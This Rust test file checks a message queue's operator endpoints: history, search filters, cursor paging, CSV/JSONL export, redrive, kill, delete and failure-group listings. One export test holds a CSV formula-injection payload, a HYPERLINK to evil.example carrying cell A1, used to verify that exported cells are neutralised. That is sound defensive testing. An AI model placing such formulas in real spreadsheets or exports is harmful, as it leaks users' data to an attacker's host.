//! Operator actions: get, search, export, redrive, kill, delete.

use crate::harness::{
    assert_error, assert_error_names, counts_of, id_of, lease_of, ms, unknown_id, TestServer,
};
use serde_json::{json, Value};
use std::collections::HashSet;
use std::time::Duration;

const TWO_ATTEMPTS: &str = r#"
[queues.two.retry]
max_attempts = 2
backoff = "fixed"
initial_delay = "50ms"
jitter = "none"
"#;

fn ids(v: &Value) -> Vec<String> {
    v["messages"]
        .as_array()
        .unwrap_or_else(|| panic!("no messages: {v}"))
        .iter()
        .map(id_of)
        .collect()
}

#[tokio::test]
async fn get_shows_the_whole_history() {
    let s = TestServer::fast("").await;
    let id = s.publish_payload("g", json!({"x": 1})).await;
    let g = s.message(&id).await;
    assert!(
        g.get("history").is_none() || g["history"] == json!([]),
        "no history yet: {g}"
    );
    let l = s.lease_one("g", "0s").await;
    let (st, body) = s
        .nack(
            &id,
            &lease_of(&l),
            json!({"class": "transient", "message": "first"}),
        )
        .await;
    assert_eq!(st, 200, "{body}");
    let l = s.lease_one("g", "5s").await;
    let (st, body) = s.ack(&id, &lease_of(&l)).await;
    assert_eq!(st, 200, "{body}");
    let g = s.message(&id).await;
    assert_eq!(g["state"], "done", "{g}");
    assert_eq!(g["attempts"], 2, "{g}");
    let h = g["history"].as_array().unwrap_or_else(|| panic!("{g}"));
    assert_eq!(h.len(), 2, "{g}");
    assert_eq!(h[0]["attempt"], 1, "{g}");
    assert_eq!(h[0]["event"], "failed", "{g}");
    assert_eq!(h[0]["error"]["class"], "transient", "{g}");
    assert_eq!(h[0]["error"]["message"], "first", "{g}");
    assert!(h[0]["retry_at"].is_string(), "{g}");
    assert!(h[0]["leased_at"].is_string(), "{g}");
    assert_eq!(h[1]["attempt"], 2, "{g}");
    assert_eq!(h[1]["event"], "acked", "{g}");
    ms(&h[1], "at");

    assert_error(
        &s.get(&format!("/v1/messages/{}", unknown_id())).await,
        404,
        "not_found",
    );
    assert_error(&s.get("/v1/messages/xyz").await, 400, "invalid_id");
    s.stop().await;
}

/// Messages for the search tests: (ready in sa, scheduled in sa with an error, dead in sb).
async fn search_fixture(s: &TestServer) -> (String, String, String) {
    let m1 = s
        .publish("sa", json!({"payload": {"text": "alpha"}, "key": "k1"}))
        .await;
    tokio::time::sleep(Duration::from_millis(5)).await; // distinct created_at
    let m2 = s
        .publish(
            "sa",
            json!({"payload": {"text": "beta"}, "key": "k2", "delay": "1h"}),
        )
        .await;
    tokio::time::sleep(Duration::from_millis(5)).await;
    let m3 = s
        .publish(
            "sb",
            json!({"payload": {"text": "gamma"}, "key": "k1",
                   "failed": {"class": "permanent", "message": "Connection refused by zeta"}}),
        )
        .await;
    (id_of(&m1), id_of(&m2), id_of(&m3))
}

#[tokio::test]
async fn search_filters() {
    let s = TestServer::fast("").await;
    let (m1, m2, m3) = search_fixture(&s).await;
    let (m1, m2, m3) = (m1.as_str(), m2.as_str(), m3.as_str());
    let search = |q: &'static str| {
        let s = &s;
        async move {
            let (st, v) = s.get(&format!("/v1/messages{q}")).await;
            assert_eq!(st, 200, "{q}: {v}");
            assert!(v.get("next_cursor").is_some(), "{q}: {v}");
            assert!(
                v["messages"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .all(|m| m.get("history").is_none()),
                "listings carry no history: {v}"
            );
            ids(&v)
        }
    };
    // Newest first.
    assert_eq!(search("").await, [m3, m2, m1]);
    assert_eq!(search("?queue=sa").await, [m2, m1]);
    assert_eq!(search("?queue=sb").await, [m3]);
    assert_eq!(search("?queue=nothing").await, Vec::<String>::new());
    assert_eq!(search("?state=dead").await, [m3]);
    assert_eq!(search("?state=scheduled").await, [m2]);
    assert_eq!(search("?state=ready").await, [m1]);
    assert_eq!(search("?key=k1").await, [m3, m1]);
    assert_eq!(search("?key=k1&queue=sa").await, [m1]);
    assert_eq!(search("?error_class=permanent").await, [m3]);
    assert!(search("?error_class=transient").await.is_empty());
    // q: text in the payload, in the error message; ASCII case-insensitive; LIKE
    // wildcards are literal.
    assert_eq!(search("?q=alpha").await, [m1]);
    assert_eq!(search("?q=ALPHA").await, [m1]);
    assert_eq!(search("?q=zeta").await, [m3]);
    assert_eq!(search("?q=refused%20by").await, [m3]);
    assert!(search("?q=%25").await.is_empty(), "% is literal");
    assert!(search("?q=_").await.is_empty(), "_ is literal");
    assert!(search("?q=nowhere").await.is_empty());
    assert_eq!(search("?q=a&queue=sa&state=ready").await, [m1]);

    // since / until by created_at: since inclusive, until exclusive.
    let (_, all) = s.get("/v1/messages").await;
    let all = all["messages"].as_array().unwrap().clone();
    let created = |id: &str| {
        all.iter()
            .find(|m| m["id"] == id)
            .map(|m| {
                (
                    ms(m, "created_at"),
                    m["created_at"].as_str().unwrap().to_owned(),
                )
            })
            .unwrap()
    };
    let (t2, t2s) = created(m2);
    for (param, keep) in [
        (
            "since",
            Box::new(|t: i64| t >= t2) as Box<dyn Fn(i64) -> bool>,
        ),
        ("until", Box::new(|t: i64| t < t2)),
    ] {
        let (st, v) = s
            .get(&format!("/v1/messages?{param}={}", t2s.replace('+', "%2B")))
            .await;
        assert_eq!(st, 200, "{v}");
        let want: Vec<String> = all
            .iter()
            .filter(|m| keep(ms(m, "created_at")))
            .map(id_of)
            .collect();
        assert_eq!(ids(&v), want, "{param}={t2s}: {v}");
        assert!(!want.is_empty(), "fixture spread in time");
    }
    let (st, v) = s
        .get(&format!("/v1/messages?since={t2s}&until={t2s}"))
        .await;
    assert_eq!(st, 200, "{v}");
    assert!(ids(&v).is_empty(), "empty window: {v}");

    // Bad filters.
    let bad = [
        ("?state=zombie", "invalid_state", "state"),
        ("?error_class=fatal", "invalid_error_class", "error_class"),
        ("?since=yesterday", "invalid_timestamp", "since"),
        ("?until=2026-13-01T00:00:00Z", "invalid_timestamp", "until"),
        ("?queue=a%20b", "invalid_queue", "a b"),
        ("?limit=0", "invalid_query", "limit"),
        ("?limit=1001", "invalid_query", "limit"),
        ("?limit=ten", "invalid_query", "limit"),
        ("?cursor=abc", "invalid_cursor", "cursor"),
        ("?format=csv", "invalid_query", "format"),
        ("?colour=red", "invalid_query", "colour"),
    ];
    for (q, code, needle) in bad {
        let got = s.get(&format!("/v1/messages{q}")).await;
        assert_error_names(&got, 400, code, needle);
    }
    s.stop().await;
}

#[tokio::test]
async fn search_pages_with_a_cursor() {
    let s = TestServer::fast("").await;
    let mut published = HashSet::new();
    for i in 0..25 {
        published.insert(s.publish_payload("pg", json!({"i": i})).await);
    }
    s.publish_payload("other", json!("not in the filter")).await;
    let mut seen: Vec<String> = Vec::new();
    let mut cursor: Option<String> = None;
    let mut pages = Vec::new();
    loop {
        let path = match &cursor {
            Some(c) => format!("/v1/messages?queue=pg&limit=10&cursor={c}"),
            None => "/v1/messages?queue=pg&limit=10".to_owned(),
        };
        let (st, v) = s.get(&path).await;
        assert_eq!(st, 200, "{v}");
        let page = ids(&v);
        pages.push(page.len());
        seen.extend(page);
        match v["next_cursor"].as_str() {
            Some(c) => cursor = Some(c.to_owned()),
            None => {
                assert!(v["next_cursor"].is_null(), "{v}");
                break;
            }
        }
        assert!(pages.len() < 10, "runaway paging: {pages:?}");
    }
    assert_eq!(pages, [10, 10, 5]);
    let unique: HashSet<String> = seen.iter().cloned().collect();
    assert_eq!(unique.len(), 25, "no duplicates: {seen:?}");
    assert_eq!(unique, published);
    // Newest first across pages: the payload counter goes down.
    let (_, v) = s.get("/v1/messages?queue=pg&limit=1000").await;
    let order: Vec<i64> = v["messages"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["payload"]["i"].as_i64().unwrap())
        .collect();
    assert_eq!(order, (0..25).rev().collect::<Vec<_>>());
    // An exact multiple: limit 25 → one page, no cursor.
    let (_, v) = s.get("/v1/messages?queue=pg&limit=25").await;
    assert_eq!(ids(&v).len(), 25);
    assert!(v["next_cursor"].is_null(), "{v}");
    s.stop().await;
}

/// A minimal RFC 4180 reader: rows of fields, quotes and doubled quotes handled.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut field = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') if field.is_empty() => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut field)),
            (false, '\n') => {
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            (false, '\r') => {}
            (false, c) => field.push(c),
        }
    }
    assert!(!quoted, "unterminated quote in {text}");
    if !field.is_empty() || !row.is_empty() {
        row.push(field);
        rows.push(row);
    }
    rows
}

#[tokio::test]
async fn export_csv_neutralises_formula_cells() {
    let s = TestServer::fast("").await;
    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    let m = s
        .publish(
            "-csv",
            json!({"payload": -5, "key": "@SUM(1+1)", "idempotency_key": "+cmd",
                   "failed": {"class": "permanent", "message": evil}}),
        )
        .await;
    let (st, text) = s
        .get_text("/v1/messages/export?queue=-csv&format=csv")
        .await;
    assert_eq!(st, 200, "{text}");
    let rows = parse_csv(&text);
    let header = &rows[0];
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let r = rows
        .iter()
        .find(|r| r[0] == id_of(&m))
        .unwrap_or_else(|| panic!("row missing: {text}"));
    assert_eq!(r[col("last_error")], format!("'{evil}"), "{text}");
    assert_eq!(r[col("key")], "'@SUM(1+1)", "{text}");
    assert_eq!(r[col("idempotency_key")], "'+cmd", "{text}");
    assert_eq!(r[col("payload")], "'-5", "{text}");
    assert_eq!(r[col("queue")], "'-csv", "{text}");
    // No cell of the file starts a formula.
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "formula cell {cell:?} in {text}"
            );
        }
    }
    // JSON lines are data for programs, not spreadsheets: unchanged.
    let (_, text) = s
        .get_text("/v1/messages/export?queue=-csv&format=jsonl")
        .await;
    let line: Value = serde_json::from_str(text.trim()).unwrap();
    assert_eq!(line["last_error"]["message"], evil, "{text}");
    s.stop().await;
}

#[tokio::test]
async fn export_csv_and_jsonl() {
    let s = TestServer::fast("").await;
    let tricky = json!({"note": "a,b \"c\"\nline two", "n": 1});
    let a = s
        .publish(
            "ex",
            json!({"payload": tricky, "headers": {"h": "x,y"}, "key": "k,1"}),
        )
        .await;
    let b = s
        .publish(
            "ex",
            json!({"payload": 2, "failed": {"class": "permanent", "message": "said \"no\", twice"}}),
        )
        .await;
    s.publish_payload("ex", json!("plain")).await;
    s.publish_payload("ex-other", json!("filtered out")).await;

    // CSV: header row + one row per message; the default format.
    for path in [
        "/v1/messages/export?queue=ex&format=csv",
        "/v1/messages/export?queue=ex",
    ] {
        let (st, ctype, text) = s.send_text(reqwest::Method::GET, path, None).await;
        assert_eq!(st, 200, "{text}");
        assert!(ctype.starts_with("text/csv"), "{ctype}");
        let rows = parse_csv(&text);
        assert_eq!(rows.len(), 4, "header + 3 rows: {text}");
        let header = &rows[0];
        assert_eq!(header[0], "id", "{text}");
        for col in ["queue", "state", "attempts", "key", "last_error", "payload"] {
            assert!(header.iter().any(|h| h == col), "column {col}: {text}");
        }
        let col = |name: &str| header.iter().position(|h| h == name).unwrap();
        for r in &rows {
            assert_eq!(r.len(), header.len(), "every row has every column: {text}");
        }
        let row_of = |id: &str| {
            rows.iter()
                .find(|r| r[0] == id)
                .unwrap_or_else(|| panic!("{id} missing: {text}"))
        };
        let ra = row_of(&id_of(&a));
        assert_eq!(ra[col("queue")], "ex");
        assert_eq!(ra[col("key")], "k,1", "{text}");
        let payload: Value = serde_json::from_str(&ra[col("payload")]).unwrap();
        assert_eq!(payload, tricky, "payload survives quoting: {text}");
        let headers: Value = serde_json::from_str(&ra[col("headers")]).unwrap();
        assert_eq!(headers, json!({"h": "x,y"}), "{text}");
        let rb = row_of(&id_of(&b));
        assert_eq!(rb[col("state")], "dead", "{text}");
        assert_eq!(rb[col("last_error")], "said \"no\", twice", "{text}");
    }

    // JSON lines, with a filter.
    let (st, ctype, text) = s
        .send_text(
            reqwest::Method::GET,
            "/v1/messages/export?queue=ex&format=jsonl&state=ready",
            None,
        )
        .await;
    assert_eq!(st, 200, "{text}");
    assert!(
        ctype.contains("ndjson") || ctype.contains("jsonl"),
        "{ctype}"
    );
    let lines: Vec<Value> = text
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l:?} in {text}")))
        .collect();
    assert_eq!(lines.len(), 2, "{text}");
    assert!(text.ends_with('\n'), "{text:?}");
    for l in &lines {
        assert_eq!(l["queue"], "ex", "{l}");
        assert_eq!(l["state"], "ready", "{l}");
    }
    assert!(lines.iter().any(|l| l["payload"] == tricky), "{text}");

    // An empty result: CSV is just the header.
    let (st, text) = s
        .get_text("/v1/messages/export?queue=none&format=csv")
        .await;
    assert_eq!(st, 200, "{text}");
    assert_eq!(parse_csv(&text).len(), 1, "{text}");
    let (st, text) = s
        .get_text("/v1/messages/export?queue=none&format=jsonl")
        .await;
    assert_eq!(st, 200, "{text}");
    assert_eq!(text, "");

    // Bad format / filter.
    let got = s.get("/v1/messages/export?format=xml").await;
    assert_error_names(&got, 400, "invalid_query", "format");
    let got = s.get("/v1/messages/export?state=zombie").await;
    assert_error_names(&got, 400, "invalid_state", "state");
    s.stop().await;
}

#[tokio::test]
async fn export_streams_the_whole_result_set() {
    // More rows than one export chunk (500), with the default max_batch.
    let s = TestServer::start("").await;
    let mut published = HashSet::new();
    for chunk in 0..3 {
        let msgs: Vec<Value> = (0..400)
            .map(|i| json!({"payload": {"c": chunk, "i": i}}))
            .collect();
        let b = s.publish("big", json!({ "messages": msgs })).await;
        published.extend(ids(&b));
    }
    let (st, text) = s
        .get_text("/v1/messages/export?queue=big&format=jsonl")
        .await;
    assert_eq!(st, 200, "{text}");
    let got: Vec<String> = text
        .lines()
        .map(|l| id_of(&serde_json::from_str::<Value>(l).unwrap()))
        .collect();
    assert_eq!(got.len(), 1200);
    let unique: HashSet<String> = got.into_iter().collect();
    assert_eq!(unique, published);
    let (st, text) = s.get_text("/v1/messages/export?queue=big").await;
    assert_eq!(st, 200, "{text}");
    assert_eq!(parse_csv(&text).len(), 1201);
    s.stop().await;
}

#[tokio::test]
async fn redrive_dead_gives_a_fresh_budget() {
    let s = TestServer::fast(TWO_ATTEMPTS).await;
    let id = s.publish_payload("two", json!(1)).await;
    let fail = |want: &'static str| {
        let s = &s;
        let id = id.clone();
        async move {
            let l = s.lease_one("two", "5s").await;
            assert_eq!(l["id"], id.as_str(), "{l}");
            let (st, n) = s
                .nack(&id, &lease_of(&l), json!({"class": "transient"}))
                .await;
            assert_eq!(st, 200, "{n}");
            assert_eq!(n["state"], want, "{n}");
            l["attempt"].as_u64().unwrap()
        }
    };
    assert_eq!(fail("scheduled").await, 1);
    assert_eq!(fail("dead").await, 2);
    assert_eq!(s.counts("two").await, counts_of(&[("dead", 1)]));

    let (st, r) = s
        .post(&format!("/v1/messages/{id}/redrive"), json!({}))
        .await;
    assert_eq!(st, 200, "{r}");
    assert_eq!(r["state"], "ready", "{r}");
    assert!(r.get("dead_reason").is_none(), "{r}");
    assert_eq!(s.counts("two").await, counts_of(&[("ready", 1)]));
    // Two more failures allowed (max_attempts = 2), then dead again.
    assert_eq!(fail("scheduled").await, 3);
    assert_eq!(fail("dead").await, 4);
    let g = s.message(&id).await;
    let events: Vec<&str> = g["history"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| h["event"].as_str().unwrap())
        .collect();
    assert_eq!(
        events,
        ["failed", "failed", "redriven", "failed", "failed"],
        "{g}"
    );

    // Redrive without a body, of a scheduled message: ready now.
    let m = s.publish("two", json!({"payload": 2, "delay": "1h"})).await;
    let r = s
        .send(
            reqwest::Method::POST,
            &format!("/v1/messages/{}/redrive", id_of(&m)),
            None,
        )
        .await;
    assert_eq!(r.0, 200, "{}", r.1);
    assert_eq!(r.1["state"], "ready", "{}", r.1);
    s.stop().await;
}

#[tokio::test]
async fn redrive_of_ready_leased_or_done_is_409() {
    let s = TestServer::fast("").await;
    let ready = s.publish_payload("r", json!(1)).await;
    let leased = s.publish_payload("r", json!(2)).await;
    let before_lease = s.lease_one("r", "0s").await;
    assert_eq!(before_lease["id"], ready.as_str());
    // `ready` is now leased; publish another ready one.
    let (st, body) = s.ack(&ready, &lease_of(&before_lease)).await;
    assert_eq!(st, 200, "{body}");
    let done = ready;
    let l = s.lease_one("r", "0s").await;
    assert_eq!(l["id"], leased.as_str());
    let ready = s.publish_payload("r", json!(3)).await;
    let before = s.snapshot().await;
    for id in [&ready, &leased, &done] {
        let got = s
            .post(&format!("/v1/messages/{id}/redrive"), json!({}))
            .await;
        assert_error(&got, 409, "invalid_state");
    }
    assert_error(
        &s.post(&format!("/v1/messages/{}/redrive", unknown_id()), json!({}))
            .await,
        404,
        "not_found",
    );
    assert_error(
        &s.post("/v1/messages/x/redrive", json!({})).await,
        400,
        "invalid_id",
    );
    assert_eq!(s.snapshot().await, before, "nothing changed");
    s.stop().await;
}

#[tokio::test]
async fn kill_makes_dead_killed() {
    let s = TestServer::fast("").await;
    let id = s.publish_payload("k", json!(1)).await;
    let (st, k) = s
        .post(
            &format!("/v1/messages/{id}/kill"),
            json!({"reason": "poison pill"}),
        )
        .await;
    assert_eq!(st, 200, "{k}");
    assert_eq!(k["state"], "dead", "{k}");
    assert_eq!(k["dead_reason"], "killed", "{k}");
    let g = s.message(&id).await;
    assert_eq!(g["state"], "dead", "{g}");
    assert_eq!(g["dead_reason"], "killed", "{g}");
    let last = g["history"].as_array().unwrap().last().unwrap().clone();
    assert_eq!(last["event"], "killed", "{g}");
    assert_eq!(last["reason"], "poison pill", "{g}");
    assert!(s.lease("k", json!({"max": 10})).await.is_empty());

    // Kill a leased message without a body: its lease no longer acks.
    let id2 = s.publish_payload("k", json!(2)).await;
    let l = s.lease_one("k", "0s").await;
    let (st, k) = s
        .send(
            reqwest::Method::POST,
            &format!("/v1/messages/{id2}/kill"),
            None,
        )
        .await;
    assert_eq!(st, 200, "{k}");
    assert_eq!(k["dead_reason"], "killed", "{k}");
    let got = s.ack(&id2, &lease_of(&l)).await;
    assert_eq!(got.0, 409, "{}", got.1);
    assert_eq!(s.counts("k").await, counts_of(&[("dead", 2)]));

    // Done and dead cannot be killed.
    let id3 = s.publish_payload("k", json!(3)).await;
    let l = s.lease_one("k", "0s").await;
    let (st, body) = s.ack(&id3, &lease_of(&l)).await;
    assert_eq!(st, 200, "{body}");
    let before = s.snapshot().await;
    for target in [&id3, &id] {
        let got = s
            .post(&format!("/v1/messages/{target}/kill"), json!({}))
            .await;
        assert_error(&got, 409, "invalid_state");
    }
    assert_error(
        &s.post(&format!("/v1/messages/{}/kill", unknown_id()), json!({}))
            .await,
        404,
        "not_found",
    );
    assert_error_names(
        &s.post(&format!("/v1/messages/{id}/kill"), json!({"reasn": "typo"}))
            .await,
        400,
        "invalid_body",
        "reasn",
    );
    assert_eq!(s.snapshot().await, before, "nothing changed");
    let (_, metrics) = s.get_text("/metrics").await;
    assert!(
        metrics.contains("redrive_dead_letters_total{queue=\"k\",reason=\"killed\"} 2\n"),
        "{metrics}"
    );
    s.stop().await;
}

#[tokio::test]
async fn delete_removes_the_message() {
    let s = TestServer::fast("").await;
    let m = s
        .publish("d", json!({"payload": 1, "idempotency_key": "once"}))
        .await;
    let id = id_of(&m);
    s.publish_payload("d", json!(2)).await;
    let (st, d) = s.delete(&format!("/v1/messages/{id}")).await;
    assert_eq!(st, 200, "{d}");
    assert_eq!(d["deleted"], true, "{d}");
    assert_eq!(d["message"]["id"], id.as_str(), "{d}");
    assert_error(
        &s.get(&format!("/v1/messages/{id}")).await,
        404,
        "not_found",
    );
    assert_eq!(s.counts("d").await, counts_of(&[("ready", 1)]));
    assert_error(
        &s.delete(&format!("/v1/messages/{id}")).await,
        404,
        "not_found",
    );
    assert_error(
        &s.delete(&format!("/v1/messages/{}", unknown_id())).await,
        404,
        "not_found",
    );
    assert_error(&s.delete("/v1/messages/nope").await, 400, "invalid_id");
    // The idempotency key is forgotten with the message: the same key publishes anew.
    let again = s
        .publish("d", json!({"payload": 1, "idempotency_key": "once"}))
        .await;
    assert_ne!(again["id"], m["id"], "{again}");

    // A leased message can be deleted; its lease is then unknown.
    let l = s.lease("d", json!({"max": 10})).await;
    let victim = &l[0];
    let (st, d) = s.delete(&format!("/v1/messages/{}", id_of(victim))).await;
    assert_eq!(st, 200, "{d}");
    assert_error(
        &s.ack(&id_of(victim), &lease_of(victim)).await,
        404,
        "not_found",
    );
    s.stop().await;
}

#[tokio::test]
async fn dead_letters_are_grouped_by_failure_fingerprint() {
    let s = TestServer::fast("").await;
    let dead = |queue: &'static str, text: &'static str| {
        let s = &s;
        async move {
            s.publish(
                queue,
                json!({"payload": text, "failed": {"class": "permanent", "message": text}}),
            )
            .await
        }
    };
    for t in [
        "order 1 not found",
        "order 22 not found",
        "order 333 not found",
    ] {
        dead("ga", t).await;
    }
    dead("gb", "order 4 not found").await;
    dead("gb", "upstream 0x9f3a timed out").await;
    let killed = s.publish_payload("gb", json!(1)).await;
    crate::harness::ok(
        s.post(&format!("/v1/messages/{killed}/kill"), json!({}))
            .await,
    );
    let (status, g) = s.get("/v1/failure-groups").await;
    assert_eq!(status, 200, "{g}");
    let groups = g["groups"].as_array().unwrap();
    assert_eq!(g["scanned"], 6, "{g}");
    assert_eq!(g["truncated"], false);
    assert_eq!(
        groups[0]["fingerprint"], "permanent: order <n> not found",
        "{g}"
    );
    assert_eq!(groups[0]["count"], 4, "{g}");
    assert_eq!(groups[0]["queues"], json!(["ga", "gb"]));
    assert_eq!(groups[0]["dead_reasons"], json!(["permanent_error"]));
    assert_eq!(groups[0]["sample_ids"].as_array().unwrap().len(), 4);
    let fps: Vec<&str> = groups
        .iter()
        .map(|g| g["fingerprint"].as_str().unwrap())
        .collect();
    assert!(
        fps.contains(&"permanent: upstream <hex> timed out"),
        "{fps:?}"
    );
    assert!(fps.contains(&"killed"), "{fps:?}");
    let (_, only_b) = s.get("/v1/failure-groups?queue=gb&limit=1").await;
    let b = only_b["groups"].as_array().unwrap();
    assert_eq!(b.len(), 1, "{only_b}");
    assert_eq!(only_b["scanned"], 3);
    assert_error(
        &s.get("/v1/failure-groups?limit=0").await,
        400,
        "invalid_query",
    );
    assert_error(
        &s.get("/v1/failure-groups?queue=bad%20name").await,
        400,
        "invalid_queue",
    );
    s.stop().await;
}

/// `s` percent-encoded for a query value.
fn enc(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

/// Regression, issue 15 (SPEC §5, §12 "triage by time"): search and export filter on when a
/// message finished (`finished_since`, `finished_until`: done or dead), and every time filter
/// takes a duration meaning that long ago (`since=1h`); a bad one is a 400 naming it.
#[tokio::test]
async fn search_filters_on_when_a_message_finished_and_takes_relative_times() {
    let s = TestServer::fast("").await;
    let acked = s.publish_payload("fin", json!("acked")).await;
    let l = s.lease_one("fin", "0s").await;
    let (st, body) = s.ack(&acked, &lease_of(&l)).await;
    assert_eq!(st, 200, "{body}");
    tokio::time::sleep(Duration::from_millis(30)).await;
    let between = redrive_core::Timestamp::now().to_rfc3339();
    tokio::time::sleep(Duration::from_millis(30)).await;
    let dead = id_of(
        &s.publish(
            "fin",
            json!({"payload": "dead", "failed": {"class": "permanent", "message": "no such order"}}),
        )
        .await,
    );
    let ready = s.publish_payload("fin", json!("ready")).await;
    let search = |q: String| {
        let s = &s;
        async move {
            let (st, v) = s.get(&format!("/v1/messages?queue=fin&{q}")).await;
            assert_eq!(st, 200, "{q}: {v}");
            ids(&v)
        }
    };
    assert_eq!(
        search(format!("finished_since={between}")).await,
        [dead.as_str()]
    );
    assert_eq!(
        search(format!("finished_until={between}")).await,
        [acked.as_str()]
    );
    assert_eq!(
        search("finished_since=1h".into()).await,
        [dead.as_str(), acked.as_str()],
        "finished within the hour, newest first; the ready one is not finished"
    );
    assert_eq!(
        search("finished_since=30m&state=dead".into()).await,
        [dead.as_str()]
    );
    assert_eq!(
        search("since=12h".into()).await,
        [ready.as_str(), dead.as_str(), acked.as_str()]
    );
    assert!(search("until=12h".into()).await.is_empty());
    assert!(search("finished_until=1h".into()).await.is_empty());
    assert_eq!(search("until=0".into()).await.len(), 3, "until now");
    // The export takes the same filters.
    let (st, lines) = s
        .get_text("/v1/messages/export?queue=fin&finished_since=1h&format=jsonl")
        .await;
    assert_eq!(st, 200, "{lines}");
    let exported: Vec<String> = lines
        .lines()
        .map(|l| id_of(&serde_json::from_str(l).unwrap()))
        .collect();
    assert_eq!(exported, [dead.clone(), acked.clone()]);
    for (q, needle) in [
        ("finished_since=soon", "finished_since"),
        ("finished_until=2026-13-01T00:00:00Z", "finished_until"),
        ("since=1h30m", "since"),
        ("until=36501d", "until"),
        ("since=-1h", "since"),
    ] {
        assert_error_names(
            &s.get(&format!("/v1/messages?{q}")).await,
            400,
            "invalid_timestamp",
            needle,
        );
        assert_error_names(
            &s.get(&format!("/v1/messages/export?{q}")).await,
            400,
            "invalid_timestamp",
            needle,
        );
    }
    s.stop().await;
}

/// Regression, issue 15: a failure group showed a few sample ids and no way to list the
/// rest. `fingerprint` (exact) lists all of a group's messages, in full pages with a cursor,
/// and exports them; HTTP statuses make different groups.
#[tokio::test]
async fn a_failure_group_lists_all_its_messages() {
    let s = TestServer::fast("").await;
    let dead = |queue: &'static str, text: String| {
        let s = &s;
        async move {
            id_of(
                &s.publish(
                    queue,
                    json!({"payload": {"text": text}, "failed": {"class": "permanent", "message": text}}),
                )
                .await,
            )
        }
    };
    let mut group = HashSet::new();
    for i in 0..49 {
        group.insert(dead("fg", format!("order {i} not found")).await);
        if i % 10 == 0 {
            dead("fg", format!("HTTP 503 from payments (req {i})")).await;
        }
    }
    let h500 = dead("fg", "HTTP 500 from payments (req 7)".into()).await;
    let (st, g) = s.get("/v1/failure-groups?queue=fg").await;
    assert_eq!(st, 200, "{g}");
    let groups = g["groups"].as_array().unwrap();
    let fp = "permanent: order <n> not found";
    assert_eq!(groups[0]["fingerprint"], fp, "{g}");
    assert_eq!(groups[0]["count"], 49, "{g}");
    assert_eq!(groups[0]["sample_ids"].as_array().unwrap().len(), 5);
    let counts: Vec<(String, u64)> = groups
        .iter()
        .map(|g| {
            (
                g["fingerprint"].as_str().unwrap().to_owned(),
                g["count"].as_u64().unwrap(),
            )
        })
        .collect();
    assert!(
        counts.contains(&("permanent: HTTP 503 from payments (req <n>)".into(), 5))
            && counts.contains(&("permanent: HTTP 500 from payments (req <n>)".into(), 1)),
        "503 and 500 are two groups: {counts:?}"
    );
    // Every message of the group, in full pages of 20.
    let mut seen = Vec::new();
    let mut sizes = Vec::new();
    let mut cursor: Option<String> = None;
    loop {
        let mut path = format!("/v1/messages?state=dead&fingerprint={}&limit=20", enc(fp));
        if let Some(c) = &cursor {
            path.push_str(&format!("&cursor={c}"));
        }
        let (st, v) = s.get(&path).await;
        assert_eq!(st, 200, "{v}");
        let page = ids(&v);
        sizes.push(page.len());
        seen.extend(page);
        match v["next_cursor"].as_str() {
            Some(c) => cursor = Some(c.to_owned()),
            None => break,
        }
        assert!(sizes.len() < 10, "runaway paging: {sizes:?}");
    }
    assert_eq!(sizes, [20, 20, 9]);
    assert_eq!(seen.iter().cloned().collect::<HashSet<_>>(), group);
    assert_eq!(seen.len(), 49, "no duplicate");
    let (_, v) = s
        .get(&format!(
            "/v1/messages?fingerprint={}",
            enc("permanent: HTTP 500 from payments (req <n>)")
        ))
        .await;
    assert_eq!(ids(&v), [h500.as_str()]);
    let (st, lines) = s
        .get_text(&format!(
            "/v1/messages/export?fingerprint={}&format=jsonl",
            enc(fp)
        ))
        .await;
    assert_eq!(st, 200);
    assert_eq!(lines.lines().count(), 49);
    // Exact, not a prefix or a pattern.
    let (_, v) = s.get("/v1/messages?fingerprint=permanent").await;
    assert!(ids(&v).is_empty(), "{v}");
    s.stop().await;
}
